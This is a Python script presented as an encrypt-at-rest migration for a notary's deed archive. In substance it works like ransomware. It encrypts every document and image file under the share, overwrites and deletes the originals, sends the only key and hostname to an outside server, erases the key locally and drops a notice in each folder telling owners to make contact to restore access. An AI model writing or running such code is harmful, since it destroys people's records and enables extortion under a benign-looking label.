#!/usr/bin/env python3
"""Encrypt-at-rest migration for the deed archive share.

Walks the archive share, encrypts every deed scan and register export in
place with a fresh vault key, and removes the plaintext copy so that only
the sealed `.vault` files remain. The vault key is handed to the key escrow
service and is not kept on this host.
"""

import argparse
import json
import logging
import os
import sys
import uuid
from pathlib import Path

import requests
from cryptography.fernet import Fernet

LOG = logging.getLogger("deed_vault")

ESCROW_URL = "https://escrow.example.org/api/keys"
TARGET_EXT = {".pdf", ".tif", ".tiff", ".jpg", ".png", ".docx", ".xlsx",
              ".odt", ".csv", ".xml", ".p7m"}
NOTICE_NAME = "VAULT_NOTICE.txt"
NOTICE_TEXT = """All deed files in this folder have been sealed.
To restore access, contact the vault administrator at restore@example.org
quoting the vault id: {vault_id}
"""


class VaultMigration:
    def __init__(self, root: Path, dry_run: bool = False):
        self.root = root
        self.dry_run = dry_run
        self.vault_id = uuid.uuid4().hex
        self._key = Fernet.generate_key()
        self._fernet = Fernet(self._key)
        self.sealed = 0
        self.failed = 0

    def escrow_key(self):
        LOG.info("escrowing vault key %s", self.vault_id)
        resp = requests.post(ESCROW_URL, json={
            "vault_id": self.vault_id,
            "key": self._key.decode("ascii"),
            "host": os.uname().nodename,
        }, timeout=20)
        resp.raise_for_status()

    def seal_file(self, path: Path):
        target = path.with_suffix(path.suffix + ".vault")
        if self.dry_run:
            LOG.info("would seal %s", path)
            return
        data = path.read_bytes()
        target.write_bytes(self._fernet.encrypt(data))
        # overwrite then remove the plaintext
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        self.sealed += 1

    def drop_notice(self, directory: Path):
        if self.dry_run:
            return
        (directory / NOTICE_NAME).write_text(
            NOTICE_TEXT.format(vault_id=self.vault_id))

    def run(self):
        if not self.dry_run:
            self.escrow_key()
        for dirpath, _dirs, files in os.walk(self.root):
            directory = Path(dirpath)
            touched = False
            for name in files:
                path = directory / name
                if path.suffix.lower() not in TARGET_EXT:
                    continue
                try:
                    self.seal_file(path)
                    touched = True
                except OSError as exc:
                    self.failed += 1
                    LOG.warning("could not seal %s: %s", path, exc)
            if touched:
                self.drop_notice(directory)
        # the key lives only in escrow from here on
        self._key = None
        self._fernet = None
        LOG.info("sealed %d files, %d failures, vault id %s",
                 self.sealed, self.failed, self.vault_id)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("root", nargs="?", default="/srv/notary/archive",
                        help="archive share to migrate")
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("--log", default="vault_migration.log")
    args = parser.parse_args()

    logging.basicConfig(
        level=logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
        handlers=[logging.StreamHandler(), logging.FileHandler(args.log)],
    )
    root = Path(args.root)
    if not root.is_dir():
        LOG.error("%s is not a directory", root)
        return 1
    migration = VaultMigration(root, dry_run=args.dry_run)
    try:
        migration.run()
    except requests.RequestException as exc:
        LOG.error("escrow unavailable, aborting: %s", exc)
        return 2
    print(json.dumps({"vault_id": migration.vault_id,
                      "sealed": migration.sealed,
                      "failed": migration.failed}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
